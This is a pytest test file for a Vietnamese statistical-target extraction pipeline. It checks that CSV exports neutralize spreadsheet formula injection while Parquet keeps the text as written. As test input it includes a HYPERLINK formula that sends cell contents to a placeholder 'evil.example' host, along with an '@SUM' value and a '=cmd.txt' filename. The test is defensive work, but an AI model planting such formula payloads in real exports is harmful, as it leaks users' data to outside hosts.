"""Issue 12: hostile and careless inputs, made for real (real files, names, links, processes),
read by the real `chitieu extract` in a process of its own. Each test names the item of the
issue it closes."""
from __future__ import annotations

import csv
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pyarrow.parquet as pq
import pytest

from conftest import PROSE_SEED, RAW, ROOT, TABLE_SEED
from pipeline.datapackage import validate_package

OUTPUTS = ("targets.csv", "targets.parquet", "documents.csv", "documents.parquet", "datapackage.json", "report.html")
SEED_TXT = (RAW / f"{TABLE_SEED}.txt").read_text(encoding="utf-8")
FIRST_NAME = "Tốc độ tăng trưởng kinh tế (GRDP) tăng so với năm 2023"
FIRST_AGENCY = "Cục Thống kê tỉnh"


def chitieu(*args, **kwargs) -> subprocess.CompletedProcess:
    proc = subprocess.run([sys.executable, "-m", "pipeline.cli", *map(str, args)], cwd=ROOT,
                          capture_output=True, text=True, timeout=600, **kwargs)
    assert "Traceback" not in proc.stderr, proc.stderr
    return proc


def csv_rows(path: Path) -> list[dict]:
    with open(path, encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


def documents(out: Path) -> dict[str, dict]:
    return {row["source"]: row for row in csv_rows(out / "documents.csv")}


def outputs(out: Path) -> dict[str, bytes]:
    return {name: (out / name).read_bytes() for name in OUTPUTS}


def table_doc(path: Path, name: str = FIRST_NAME, agency: str = FIRST_AGENCY, target: str = "6,5-7,0") -> Path:
    """The seed table as text, its first row's name, agency and target replaced."""
    old = f"\t{FIRST_NAME}\n\t%\n\t6,5-7,0\n\t{FIRST_AGENCY}\n"
    assert old in SEED_TXT
    path.write_text(SEED_TXT.replace(old, f"\t{name}\n\t%\n\t{target}\n\t{agency}\n", 1), encoding="utf-8")
    return path


# ---------------------------------------------------------------------------- item 3


def test_3_formulas_are_neutralized_in_csv_and_kept_as_written_in_parquet(tmp_path):
    raw, out = tmp_path / "raw", tmp_path / "out"
    raw.mkdir()
    link = '=HYPERLINK("http://evil.example/?"&A1,"bấm")'
    table_doc(raw / "=cmd.txt", name=link, agency="@SUM(1+1)")
    proc = chitieu("extract", raw, out)
    assert proc.returncode == 0, proc.stderr

    first = next(r for r in csv_rows(out / "targets.csv") if "HYPERLINK" in r["name"])
    assert (first["name"], first["agency"], first["source"]) == (f"'{link}", "'@SUM(1+1)", "'=cmd.txt")
    assert first["comparator"] == "between"
    free_text = ("source", "name", "agency", "target_text", "section_title", "unit_raw", "error", "title")
    assert all(not row[c].startswith(("=", "+", "-", "@", "\t", "\r"))
               for row in csv_rows(out / "targets.csv") + csv_rows(out / "documents.csv")
               for c in free_text if c in row)
    parquet = next(r for r in pq.read_table(out / "targets.parquet").to_pylist() if "HYPERLINK" in r["name"])
    assert (parquet["name"], parquet["agency"], parquet["source"]) == (link, "@SUM(1+1)", "=cmd.txt")

    package = json.loads((out / "datapackage.json").read_text(encoding="utf-8"))
    assert package["version"] == "2.0.0"
    assert "leading apostrophe" in package["description"]
    assert all("Parquet files keep every text as written" in r["description"] for r in package["resources"])
    assert validate_package(out) == []
